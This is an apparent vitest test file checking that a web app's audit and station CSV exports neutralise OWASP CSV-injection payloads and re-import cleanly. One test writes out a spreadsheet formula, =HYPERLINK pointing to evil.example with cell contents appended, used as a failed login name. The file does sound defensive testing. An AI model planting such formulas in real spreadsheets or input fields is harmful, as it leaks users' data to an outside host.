import { sql } from "drizzle-orm";
import { afterAll, beforeAll, beforeEach, describe, expect, it } from "vitest";
import { recordAct } from "../../src/desk/audit.ts";
import { cities, stations } from "../../src/db/schema.ts";
import { parseCsv } from "../../src/operators/csv.ts";
import { exportStationsCsv, importStationsCsv } from "../../src/operators/stationsCsv.ts";
import { bootApp, type BootedApp } from "../helpers/app.ts";
import { FORMULA_START, OWASP_PAYLOADS, rawCells } from "../operators/csvCells.ts";
import { deskGet, deskPost, signedInStaff } from "./support.ts";

/**
 * Every CSV the server writes (the desk's audit and station exports, the CLI's station export)
 * against OWASP's CSV-injection payloads (issue 34), and without a false error line in the log.
 */

const logLines: string[] = [];
let booted: BootedApp;
beforeAll(async () => {
  booted = await bootApp({ logger: { level: "info", stream: { write: (line) => void logLines.push(line) } } });
});
afterAll(async () => booted.close());
beforeEach(async () => {
  await booted.reset();
  logLines.length = 0;
});

const noFormulaCells = (csv: string): void => {
  for (const cell of rawCells(csv).flat()) expect(cell, JSON.stringify(cell)).not.toMatch(FORMULA_START);
};

/** A station whose every free-text column is `text` (and a city of that name). */
const stationNamed = (text: string, i: number): typeof stations.$inferInsert => ({
  city: text,
  title: `${text}#${i}`,
  address: text,
  shopImage: text,
  codeId: text,
  tel: text,
  longitude: i % 2 === 0 ? 113.3312 : -0.1278,
  latitude: 23.1452,
  nowPrice: 698,
  nationPrice: 762,
  originalPrice: 745,
});

describe("the audit CSV", () => {
  it("writes each OWASP payload behind a single quote, and reads back exactly what was recorded", async () => {
    const admin = await signedInStaff(booted, "li.admin", "admin");
    const at = new Date(booted.clock.now());
    for (const payload of OWASP_PAYLOADS) {
      await recordAct(booted.db, { at, staff: { id: null, name: payload }, address: payload, act: "settingChanged", subject: payload, before: payload, after: { v: payload } });
    }
    const res = await deskGet(booted, "/api/desk/audit?format=csv&act=settingChanged", { cookie: admin.cookie });
    expect(res.statusCode).toBe(200);
    noFormulaCells(res.body);
    const rows = parseCsv(res.body).slice(1).map((r) => r.fields);
    // Newest first.
    expect(rows.map((r) => [r[2], r[3], r[5], r[6], r[7]])).toEqual(
      [...OWASP_PAYLOADS].reverse().map((p) => [p, p, p, JSON.stringify(p), JSON.stringify({ v: p })]),
    );
  });

  it("end to end: a stranger's failed sign-in under a formula name reaches the admin's CSV as text, not a formula", async () => {
    const attack = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")';
    const tried = await deskPost(booted, "/api/desk/login", { name: attack, password: "whatever-password" });
    expect(tried.statusCode).toBe(401);
    const admin = await signedInStaff(booted, "li.admin", "admin");
    const res = await deskGet(booted, "/api/desk/audit?format=csv&act=signInFailed", { cookie: admin.cookie });
    noFormulaCells(res.body);
    const [header, row] = rawCells(res.body);
    expect(header?.[2]).toBe("staff");
    expect(row?.[2]).toBe(`'${attack}`);
    expect(row?.[5]).toBe(`'${attack}`);
    expect(parseCsv(res.body)[1]?.fields[2]).toBe(attack);
  });
});

describe("the station export", () => {
  beforeEach(async () => {
    await booted.db.insert(cities).values(OWASP_PAYLOADS.map((name, i) => ({ name, sort: i + 1 })));
    await booted.db.insert(stations).values(OWASP_PAYLOADS.map(stationNamed));
  });

  it("at the desk and in the CLI, writes each OWASP payload (and a negative coordinate) behind a single quote", async () => {
    const admin = await signedInStaff(booted, "li.admin", "admin");
    const res = await deskGet(booted, "/api/desk/stations/export", { cookie: admin.cookie });
    expect(res.statusCode).toBe(200);
    expect(res.headers["content-type"]).toBe("text/csv; charset=utf-8");
    expect(res.headers["content-disposition"]).toBe('attachment; filename="stations.csv"');
    // The desk's download leads with a UTF-8 BOM (for Chinese Excel); the rest is the CLI's export.
    expect(res.body).toBe(`\uFEFF${await exportStationsCsv(booted.db)}`);
    noFormulaCells(res.body);
    const rows = parseCsv(res.body).slice(1).map((r) => r.fields);
    expect(rows.map((r) => [r[0], r[1], r[2], r[3], r[5], r[10], r[11]])).toEqual(
      OWASP_PAYLOADS.map((p, i) => [p, `${p}#${i}`, p, i % 2 === 0 ? "113.3312" : "-0.1278", p, p, p]),
    );
    expect(rawCells(res.body)[2]?.[3]).toBe("'-0.1278");
  });

  it("imports back unchanged: the import reads each guarded cell as it was", async () => {
    const before = await booted.db.select().from(stations).orderBy(stations.id);
    // Without the tab- and CR-led payloads: the import trims its cells (StationRow), whatever the guard does.
    const trimmed = before.filter((s) => s.city === s.city.trim());
    await booted.db.execute(sql`DELETE FROM stations WHERE city LIKE E'\\t%' OR city LIKE E'\\r%'`);
    const exported = await exportStationsCsv(booted.db);
    const imported = await importStationsCsv(booted.db, exported);
    expect(imported).toEqual({ ok: true, added: 0, updated: trimmed.length });
    expect(await booted.db.select().from(stations).orderBy(stations.id)).toEqual(trimmed);
  });
});

describe("CSV answers log no error", () => {
  it("an audit CSV and a station export answer 200 with no error line (no false ResponseEncodingError)", async () => {
    const admin = await signedInStaff(booted, "li.admin", "admin");
    logLines.length = 0;
    expect((await deskGet(booted, "/api/desk/audit?format=csv", { cookie: admin.cookie })).statusCode).toBe(200);
    expect((await deskGet(booted, "/api/desk/stations/export", { cookie: admin.cookie })).statusCode).toBe(200);
    // The false error was logged after the answer was sent, when the reply's promise settled.
    await new Promise((resolve) => setTimeout(resolve, 100));
    const completed = logLines.filter((l) => l.includes('"msg":"request completed"'));
    expect(completed).toHaveLength(2);
    const errors = logLines.map((l) => JSON.parse(l) as { level: number; msg: string }).filter((l) => l.level >= 50);
    expect(errors).toEqual([]);
  });
});
